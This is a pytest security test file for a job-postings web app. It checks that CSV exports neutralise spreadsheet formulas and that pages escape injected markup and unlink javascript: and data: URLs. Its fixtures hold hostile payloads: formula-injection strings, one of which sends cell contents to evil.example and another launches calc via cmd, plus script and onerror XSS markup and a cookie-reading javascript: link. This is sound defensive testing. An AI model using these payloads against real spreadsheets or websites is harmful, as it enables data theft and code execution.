"""Hostile values from posting text, through a real store and real requests: CSV cells a
spreadsheet would run, markup in every page that shows posting text, links that are not
http(s)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from bs4 import BeautifulSoup
from fastapi.testclient import TestClient

from mljobs.analytics import Table
from mljobs.models import Enrichment, Posting, SkillMention
from mljobs.store import SQLiteStore
from mljobs.web import create_app

from .test_safety import assert_inert

NOW = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)
FORMULAS = ('=HYPERLINK("https://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd", "-2+3+cmd", "\t=1+1", "\r=1+1")
MARKUP = '"><script>window.__xss=1</script></textarea><img src=x onerror=alert(1)>'


def _posting(n: int, *, skills: tuple[str, ...] = (), archetype: str = "research-engineer",
             url: str | None = None, **fields: object) -> Posting:
    base: dict[str, object] = {
        "title": f"Machine learning engineer {n}", "company": f"Company {n}",
        "description_text": "Train models with PyTorch and Python.",
        "description_html": "<p>Train models with PyTorch and Python.</p>",
        "posted_at": datetime(2026, 5, 1 + n, tzinfo=UTC),
    }
    base.update(fields)
    return Posting(
        id=f"file:u{n}", source="file", source_id=f"u{n}", url=url,
        enrichment=Enrichment(version="t", archetype=archetype,
                              archetype_proba={archetype: 0.9, "not-ml": 0.1},
                              skills=[SkillMention(name=s, surface=s, required=True)
                                      for s in ("PyTorch", *skills)]),
        **base)  # type: ignore[arg-type]


def hostile_postings() -> list[Posting]:
    """Postings whose skill names, archetype, company, title and links are hostile."""
    return [
        _posting(1, skills=FORMULAS[:3], url="javascript:alert(document.cookie)",
                 title=f"Engineer {MARKUP}", company=f"=cmd|' /C calc'!A0 {MARKUP}",
                 locations=(MARKUP,),
                 description_text=f"Train models with PyTorch. {MARKUP} window.__xss",
                 description_html=f"<p>Train models with PyTorch. {MARKUP} window.__xss</p>"),
        _posting(2, skills=(*FORMULAS[3:], MARKUP), url="data:text/html,<script>alert(1)</script>"),
        _posting(3, url=" JAVASCRIPT:alert(1)"),
        _posting(4, url="https://example.org/jobs/4"),
        _posting(5, archetype=f"=HYPERLINK(\"https://evil.example\") {MARKUP}"),
    ]


@pytest.fixture(scope="module")
def hostile_client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    db = tmp_path_factory.mktemp("untrusted") / "u.sqlite3"
    store = SQLiteStore(db)
    store.upsert(hostile_postings(), now=NOW)
    store.close()
    with TestClient(create_app(db, now=lambda: NOW)) as c:
        yield c


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("url", ["/dashboard/skills.csv", "/api/dashboard/skills?format=csv",
                                 "/dashboard/archetypes.csv", "/dashboard/shares.csv"])
def test_csv_downloads_never_start_a_text_cell_as_a_formula(hostile_client: TestClient,
                                                            url: str) -> None:
    response = hostile_client.get(url)
    assert response.status_code == 200
    cells = _cells(response.text)
    assert cells, response.text
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_keeps_the_hostile_names_readable_behind_a_quote(hostile_client: TestClient) -> None:
    cells = set(_cells(hostile_client.get("/dashboard/skills.csv").text))
    for formula in FORMULAS:
        assert "'" + formula in cells, formula
    assert MARKUP in cells  # nothing to do for a spreadsheet: left as it is


def test_a_carriage_return_in_a_cell_does_not_start_a_row(hostile_client: TestClient) -> None:
    rows = list(csv.reader(io.StringIO(hostile_client.get("/dashboard/skills.csv").text)))
    assert {len(row) for row in rows} == {5}  # archetype, skill, postings, share, required


def test_numbers_stay_numbers_in_csv() -> None:
    table = Table("t", ["name", "delta", "share", "label"],
                  [["-x", -3, -0.25, None], ["ok", 0, 1.5, "-"]])
    rows = list(csv.reader(io.StringIO(table.to_csv())))
    assert rows == [["name", "delta", "share", "label"], ["'-x", "-3", "-0.25", ""],
                    ["ok", "0", "1.5", "'-"]]
    assert table.to_csv().endswith("ok,0,1.5,'-\r\n")


def _links(markup: str) -> list[str]:
    return [str(a.get("href")) for a in BeautifulSoup(markup, "html.parser").find_all("a")]


@pytest.mark.parametrize("url", [
    "/", "/?q=engineer", "/?q=textarea+onerror+xss", "/?sort=date", "/posting/file:u1", "/posting/file:u2",
    "/posting/file:u3", "/posting/file:u5", "/dashboard",
    "/dashboard?trend=" + FORMULAS[0].replace("&", "%26"),
    "/?company=" + MARKUP.replace("&", "%26"), "/?archetype=" + MARKUP,
    "/?skills=" + MARKUP, "/dashboard?skills=" + MARKUP, "/?q=" + MARKUP,
    "/posting/" + MARKUP, "/dashboard/" + MARKUP + ".csv", "/?since=" + MARKUP,
])
def test_pages_showing_hostile_values_are_inert(hostile_client: TestClient, url: str) -> None:
    response = hostile_client.get(url)
    assert response.status_code in (200, 400, 404), response.text[:300]
    assert "text/html" in response.headers["content-type"]
    assert_inert(response.text)
    assert "<script>window.__xss" not in response.text
    assert not [h for h in _links(response.text)
                if h.strip().lower().startswith(("javascript:", "data:", "vbscript:"))]


def test_hostile_title_company_and_place_show_as_text(hostile_client: TestClient) -> None:
    page = BeautifulSoup(hostile_client.get("/posting/file:u1").text, "html.parser")
    assert page.select_one("h1").get_text() == f"Engineer {MARKUP}"
    assert MARKUP in page.get_text()
    hits = BeautifulSoup(hostile_client.get("/?q=engineer+1").text, "html.parser")
    assert f"Engineer {MARKUP}" in hits.get_text()


@pytest.mark.parametrize("pid", ["file:u1", "file:u2", "file:u3"])
def test_a_non_http_posting_url_is_shown_but_not_linked(hostile_client: TestClient,
                                                       pid: str) -> None:
    html = hostile_client.get(f"/posting/{pid}").text
    assert all(h.startswith(("/", "http://", "https://", "#", "?")) for h in _links(html))
    api = hostile_client.get(f"/api/postings/{pid}").json()
    assert api["posting"]["url"]  # the data keeps it, as the source gave it


def test_an_http_posting_url_is_linked(hostile_client: TestClient) -> None:
    assert "https://example.org/jobs/4" in _links(hostile_client.get("/posting/file:u4").text)


def test_match_page_with_a_hostile_resume_is_inert(hostile_client: TestClient) -> None:
    resume = (f"Jane {MARKUP}\nMachine learning engineer {MARKUP}\n"
              "Experience: 2019-2025 ML engineer at Acme, PyTorch, Python, training models.\n"
              f"Skills: PyTorch, Python, {FORMULAS[0]}\n").encode()
    response = hostile_client.post(
        "/match", files={"resume": (f"{MARKUP}.txt", resume, "text/plain")},
        data={"archetype": "", "remote": ""})
    assert response.status_code == 200, response.text[:500]
    page = BeautifulSoup(response.text, "html.parser")
    assert_inert(str(page.find("main")))  # (the page's head has its own <style>)
    assert "<script>window.__xss" not in response.text
    assert [s.get("src") for s in page.find_all("script")] == [
        s.get("src") for s in BeautifulSoup(hostile_client.get("/match").text,
                                            "html.parser").find_all("script")]
    assert page.select("#matches li"), "the hostile postings are ranked"
    assert all(h.startswith(("/", "http://", "https://", "#")) for h in _links(response.text))
